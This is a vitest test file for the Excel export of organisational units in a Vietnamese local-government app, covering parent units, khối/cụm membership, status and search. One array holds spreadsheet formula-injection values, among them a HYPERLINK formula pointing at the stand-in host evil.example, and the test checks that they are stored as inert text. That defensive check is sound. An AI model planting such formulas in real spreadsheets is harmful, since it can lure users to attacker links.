// Đơn vị to Excel: the units the page lists, with parent, khối/cụm and role; a unit named like a
// formula comes back as that text.
import { describe, expect, it } from 'vitest';
import { freshApp } from '../../../helpers.ts';
import { readWorkbook, rowValues, sheetOf } from '../read-back.ts';

const HOSTILE = ['=HYPERLINK("http://evil.example/?x","Bấm vào đây")', '+1', '@SUM(A1:A9)', '-2+3'];

async function unitsSheet(app: ReturnType<typeof freshApp>, args: { query?: string; includeInactive?: boolean } = {}) {
  const file = await app.invoke('excel.export', { list: 'units', ...args });
  return sheetOf(await readWorkbook(Buffer.from(file.contentBase64, 'base64')), 'Đơn vị');
}

describe('units export', () => {
  it('writes each unit with its parent, khối/cụm and role, and formula-like names as text', async () => {
    const app = freshApp();
    const parent = await app.invoke('org.saveUnit', { code: 'TD', name: 'Ủy ban nhân dân thành phố Thủ Đức', kind: 'co_quan' });
    const ward = await app.invoke('org.saveUnit', { code: 'P01', name: 'Phường Linh Trung', shortName: 'Linh Trung', kind: 'phuong_xa', parentId: parent.id });
    const cum = await app.invoke('org.saveGroup', { code: 'C1', kind: 'cum', name: 'Cụm 1' });
    await app.invoke('org.addMember', { groupId: cum.id, unitId: ward.id, role: 'truong', validFrom: '2021-01-01' });
    const khoi = await app.invoke('org.saveGroup', { code: 'K1', kind: 'khoi', name: 'Khối phường' });
    await app.invoke('org.addMember', { groupId: khoi.id, unitId: ward.id, role: 'thanh_vien', validFrom: '2021-01-01' });
    for (const [i, name] of HOSTILE.entries()) await app.invoke('org.saveUnit', { code: `X${i}`, name, kind: 'khac' });
    await app.invoke('org.setUnitActive', { id: parent.id, active: false });

    const sheet = await unitsSheet(app, { includeInactive: true });
    expect(rowValues(sheet, 1)).toEqual(['Danh sách đơn vị']);
    expect(rowValues(sheet, 2)).toEqual(['Gồm cả đơn vị ngừng hoạt động']);
    expect(rowValues(sheet, 3)).toEqual(['STT', 'Mã đơn vị', 'Tên đơn vị', 'Tên viết tắt', 'Loại', 'Đơn vị cấp trên', 'Khối, cụm', 'Trạng thái']);
    const rows = Array.from({ length: 6 }, (_, i) => rowValues(sheet, 4 + i));
    const listed = await app.invoke('org.listUnits', { includeInactive: true });
    expect(rows.map((r) => r[1])).toEqual(listed.map((u) => u.code));
    const p01 = rows.find((r) => r[1] === 'P01')!;
    expect(p01.slice(2)).toEqual(['Phường Linh Trung', 'Linh Trung', 'Phường, xã', 'Ủy ban nhân dân thành phố Thủ Đức', expect.any(String), 'Hoạt động']);
    expect(String(p01[6]).split('; ').sort()).toEqual(['Cụm 1 (Trưởng)', 'Khối phường']);
    expect(rows.find((r) => r[1] === 'TD')![7]).toBe('Ngừng hoạt động');
    for (const [i, name] of HOSTILE.entries()) {
      const cell = sheet.getRow(4 + rows.findIndex((r) => r[1] === `X${i}`)).getCell(3);
      expect(cell.value).toBe(name);
      expect(cell.formula).toBeUndefined();
      expect(cell.numFmt).toBe('@');
    }
    app.close();
  });

  it('exports what the search finds, and names a parent left out of it', async () => {
    const app = freshApp();
    const parent = await app.invoke('org.saveUnit', { code: 'TD', name: 'Ủy ban nhân dân thành phố Thủ Đức', kind: 'co_quan' });
    await app.invoke('org.saveUnit', { code: 'P01', name: 'Phường Linh Trung', kind: 'phuong_xa', parentId: parent.id });
    await app.invoke('org.saveUnit', { code: 'P02', name: 'Phường An Khánh', kind: 'phuong_xa', parentId: parent.id });
    const sheet = await unitsSheet(app, { query: 'linh trung' });
    expect(rowValues(sheet, 2)).toEqual(['Tìm: linh trung']);
    expect(rowValues(sheet, 4)).toEqual([1, 'P01', 'Phường Linh Trung', undefined, 'Phường, xã', 'Ủy ban nhân dân thành phố Thủ Đức', undefined, 'Hoạt động']);
    expect(sheet.rowCount).toBe(4);
    app.close();
  });
});
